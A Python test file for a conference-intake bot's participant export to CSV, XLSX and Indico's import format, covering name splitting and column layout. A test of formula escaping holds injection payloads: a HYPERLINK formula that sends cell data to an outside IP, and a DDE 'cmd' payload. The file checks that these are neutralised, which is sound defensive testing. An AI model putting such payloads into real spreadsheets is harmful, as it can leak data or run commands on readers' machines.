"""`intake export`: the participants as CSV, XLSX and Indico's columns, names as written."""
from __future__ import annotations

import csv
import re
import io

import pytest
from openpyxl import load_workbook

from bot.export import split_name
from bot.mailbox import deliver_to_maildir
from tests.intake_helpers import fixture, intake, intake_env


def test_split_name_keeps_every_letter_and_finds_capitalised_family_names():
    assert split_name("N'DIAYE Awa Marie") == ("Awa Marie", "N'DIAYE")
    assert split_name("Siobhan McDonald-Hale") == ("Siobhan", "McDonald-Hale")
    assert split_name("Kenji WATANABE") == ("Kenji", "WATANABE")
    assert split_name("Aroha") == ("", "Aroha")


def test_export_lists_the_recorded_participants_in_csv_xlsx_and_indico_columns(tmp_path):
    box = tmp_path / "mb"
    for name in ("complete-nomination-en.eml", "incomplete-designation-fr.eml", "visa-question.eml"):
        deliver_to_maildir(box, fixture("worker", name))
    env = intake_env(f"maildir:{box}", f"maildir:{tmp_path / 'out'}", f"sqlite:///{tmp_path / 'x.db'}")
    intake("run", "--once", env=env)

    # On standard output, for scripts: the column keys and codes.
    rows = list(csv.DictReader(io.StringIO(intake("export", env=env).stdout.decode())))
    assert [(r["member_state"], r["role"], r["name"], r["status"]) for r in rows] == [
        ("TG", "representative", "Kossi Agbeko", "pending"),
        ("TT", "representative", "Darren Ramsaran", "confirmed"),
        ("TT", "adviser", "Alicia Baptiste", "confirmed"),
    ]
    confirmed = list(csv.DictReader(io.StringIO(intake("export", "--status", "confirmed", env=env).stdout.decode())))
    assert {r["name"] for r in confirmed} == {"Darren Ramsaran", "Alicia Baptiste"}
    # A file, for people: readable headers and values, with the byte-order mark Excel needs.
    intake("export", "--output", str(tmp_path / "p.csv"), env=env)
    data = (tmp_path / "p.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfCode,Member State,")
    assert "Representative,Kossi Agbeko" in data.decode("utf-8-sig")

    out = tmp_path / "p.xlsx"
    intake("export", "--format", "xlsx", "--indico", "--output", str(out), env=env)
    sheet = load_workbook(out).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert ["Darren", "Ramsaran", "Trinidad and Tobago", "Chief Labour Inspector, Ministry of Labour", None,
            "darren.ramsaran@labour.gov.tt"] in values


# -- the file Indico imports ---------------------------------------------------------------

def indico_import(data: bytes) -> list[dict]:
    """Indico's `import_registrations_from_csv` reading rules (indico/modules/events/registration/
    util.py: import_user_records_from_csv), written again here: UTF-8 with or without BOM,
    the delimiter sniffed among comma, semicolon and tab, six columns on every row and no
    header, an e-mail that is valid and unique on every row, a first and a last name."""
    content = data.decode("utf-8-sig").splitlines()
    if not content:
        return []
    try:
        delimiter = csv.Sniffer().sniff("\n".join(content[:10]), delimiters=[",", ";", "\t"]).delimiter
    except csv.Error:
        raise ValueError("Not a valid CSV file.")
    columns = ["first_name", "last_name", "affiliation", "position", "phone", "email"]
    used, records = set(), []
    for row_num, row in enumerate(csv.reader(content, delimiter=delimiter), 1):
        values = [v.strip() for v in row]
        if len(values) != len(columns):
            raise ValueError(f"Row {row_num}: malformed CSV data - please check that the number of columns is correct")
        record = dict(zip(columns, values))
        if not record["email"]:
            raise ValueError(f"Row {row_num}: missing e-mail address")
        record["email"] = record["email"].lower()
        if not re.fullmatch(r"[^@\s]+@[^@\s]+\.[^@\s]+", record["email"]):
            raise ValueError(f"Row {row_num}: invalid e-mail address")
        if not record["first_name"] or not record["last_name"]:
            raise ValueError(f"Row {row_num}: missing first or last name")
        record["first_name"], record["last_name"] = record["first_name"].title(), record["last_name"].title()
        if record["email"] in used:
            raise ValueError(f"Row {row_num}: email address is not unique")
        used.add(record["email"])
        records.append(record)
    return records


def person(name: str, state: str, email: str, **more) -> dict:
    from bot.states import load_states

    row = {"member_state": state, "state_name": load_states().name(state), "organization": "", "capacity": "member",
           "role": "representative", "name": name, "title": "Director", "email": email, "attendance": "in_person",
           "gender": "female", "status": "confirmed", "language": ""}
    row.update(more)
    return row


PEOPLE = [
    person("María Florencia Giménez Aráoz", "AR", "mf.gimenez@trabajo.gob.ar"),
    person("Rocío del Pilar Huamán Salazar", "PE", "rhuaman@trabajo.gob.pe", title="Directora, Oficina; Ginebra"),
    person("Inês Sousa Martins", "PT", "ines.sousa@gep.mtsss.pt"),
    person("SUZUKI Takeshi", "JP", "t.suzuki@mhlw.go.jp", gender="male"),
    person("Kofi Boateng Asare", "GH", "", role="adviser", gender="male"),  # no e-mail: left out
    person("Salma EL AMRANI", "MA", "s.elamrani@emploi.gov.ma", title='Cheffe de division, "Compétences"'),
]


def test_the_indico_file_imports_with_indicos_own_rules():
    from bot.export import export_file

    data, written, left_out = export_file(PEOPLE, "csv", indico=True)
    assert (written, left_out) == (5, 1)
    records = indico_import(data)
    assert [(r["first_name"], r["last_name"], r["affiliation"]) for r in records] == [
        ("María Florencia", "Giménez Aráoz", "Argentina"),
        ("Rocío Del Pilar", "Huamán Salazar", "Peru"),  # Indico title-cases names itself
        ("Inês", "Sousa Martins", "Portugal"),
        ("Takeshi", "Suzuki", "Japan"),
        ("Salma", "El Amrani", "Morocco"),
    ]
    assert records[1]["position"] == "Directora, Oficina; Ginebra"
    assert records[4]["position"] == 'Cheffe de division, "Compétences"'
    assert all(r["phone"] == "" for r in records)
    # Today's file with a header row would be refused by the same rules.
    with pytest.raises(ValueError, match="Row 1"):
        indico_import(b"first_name,last_name,affiliation,position,email\nA,B,C,D,a@b.example\n")


def test_names_split_for_double_surnames_and_surname_first():
    assert split_name("María Florencia Giménez Aráoz", "AR") == ("María Florencia", "Giménez Aráoz")
    assert split_name("Rocío del Pilar Huamán Salazar", "PE") == ("Rocío del Pilar", "Huamán Salazar")
    assert split_name("María José García de la Fuente", "ES") == ("María José", "García de la Fuente")
    assert split_name("Luiz Inácio Lula da Silva", "BR") == ("Luiz Inácio", "Lula da Silva")
    assert split_name("Inês Sousa Martins", "PT") == ("Inês", "Sousa Martins")
    assert split_name("Jean de la Fontaine", "FR") == ("Jean", "de la Fontaine")
    assert split_name("Aminata Diallo", "SN") == ("Aminata", "Diallo")
    assert split_name("Salma EL AMRANI", "MA") == ("Salma", "EL AMRANI")


HOSTILE = ["=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")", "+41 22 799 61 11", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_exports_write_text_never_formulas():
    import zipfile

    from openpyxl import load_workbook

    from bot.export import export_file

    rows = [person(f"Ana Test{i}", "CL", f"a{i}@mintrab.gob.cl", title=value) for i, value in enumerate(HOSTILE)]
    rows.append(person("=cmd|' /C calc'!A0", "CL", "x@mintrab.gob.cl"))
    data, _, _ = export_file(rows, "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    titles = {c.value: c for c in ws["G"][1:]}
    for value in HOSTILE:
        assert titles[value].data_type == "s" and titles[value].quotePrefix  # the text, shown as text
    assert ws["F8"].value == "=cmd|' /C calc'!A0" and ws["F8"].data_type == "s"

    for indico in (False, True):
        text = export_file(rows, "csv", indico=indico)[0].decode("utf-8-sig")
        cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'+41 22 799 61 11" in cells
        assert any(c.startswith("'=cmd|'") for c in cells)


def test_the_spreadsheet_reads_like_a_list_for_people():
    from openpyxl import load_workbook

    from bot.export import export_file, gender_balance

    data, _, _ = export_file(PEOPLE, "xlsx")
    wb = load_workbook(io.BytesIO(data))
    ws = wb["Participants"]
    assert [c.value for c in ws[1]] == ["Code", "Member State", "Organization", "Capacity", "Role", "Name", "Title",
                                        "E-mail", "Attendance", "Gender", "Delegation status"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:K7"
    assert ws["I2"].value == "In person" and ws["E2"].value == "Representative" and ws["J2"].value == "Female"
    assert ws.column_dimensions["F"].width >= 30
    balance = {row[0].value: row[1].value for row in wb["Gender balance"].iter_rows()}
    assert balance["Share of women"] == "67%" and balance["Target met"] == "yes"
    assert gender_balance(PEOPLE)["women"] == 4
    assert export_file(PEOPLE, "csv")[0].startswith("\ufeffCode,Member State".encode())
